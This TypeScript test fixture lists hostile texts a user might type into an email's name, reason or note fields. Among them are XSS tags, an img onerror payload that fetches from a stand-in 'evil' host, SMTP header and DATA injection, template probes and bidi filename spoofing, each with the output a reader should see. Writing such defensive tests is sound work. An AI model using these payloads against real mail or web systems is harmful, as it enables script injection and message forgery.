/** Texts that a person may type into a name, a reason or a note to make a mail show more than words. */

/** The text, and the lines that a reader should see of it. */
export const HOSTILE_TEXTS: readonly (readonly [what: string, typed: string, seen: readonly string[]])[] = [
  ['a script', '<script>alert(1)</script>', ['<script>alert(1)</script>']],
  [
    'an image that calls home',
    '<img src=x onerror="fetch(\'//evil\')">',
    ['<img src=x onerror="fetch(\'//evil\')">'],
  ],
  ['the end of our markup', '</td></tr></table></body>', ['</td></tr></table></body>']],
  ['the end of an attribute', '" onmouseover="x', ['" onmouseover="x']],
  ['an entity', '&lt;b&gt; &amp; &#60;', ['&lt;b&gt; &amp; &#60;']],
  ['a comment', '<!-- <![endif]--> -->', ['<!-- <![endif]--> -->']],
  ['a template of some engine', '{{7*7}} <%= 7*7 %> #{7}', ['{{7*7}} <%= 7*7 %> #{7}']],
  ['patterns of String.replace', "$& $` $' $1 $$", ["$& $` $' $1 $$"]],
  ['a header', 'x\r\nBcc: everybody@example.com', ['x', 'Bcc: everybody@example.com']],
  ['a bare carriage return', 'x\rBcc: y@example.com', ['x', 'Bcc: y@example.com']],
  ['the end of DATA', 'x\r\n.\r\nMAIL FROM:<a@b.c>', ['x', '.', 'MAIL FROM:<a@b.c>']],
  [
    'a signature of ours',
    'x\n\n-- \nYou are receiving this mail because you won.',
    ['x', '', '--', 'You are receiving this mail because you won.'],
  ],
  ['other line breaks', 'a\u2028b\u2029c\u0085d\vd\ff', ['a', 'b', 'c', 'd', 'd', 'f']],
  ['a text turned round', '\u202egpj.exe\u202c \u2066x\u2069\u200f', ['gpj.exe x']],
  ['controls', 'a\0b\u0007c\u001b[31md\u009be\u007ff', ['abc[31mdef']],
  ['half of a surrogate pair', 'a\ud800b\udc00c', ['abc']],
  ['an encoded word', '=?utf-8?B?PGI+?= =0D=0A', ['=?utf-8?B?PGI+?= =0D=0A']],
  ['an emoji of several code points', '👩‍💻 é', ['👩‍💻 é']],
  ['a boundary', '--boundary\r\nContent-Type: text/html', ['--boundary', 'Content-Type: text/html']],
];

/** Texts of which a reader should see nothing. */
export const INVISIBLE_TEXTS: readonly string[] = ['', ' ', '\r\n\r\n', '\u202e', '\0', '\u2028 \u0085'];
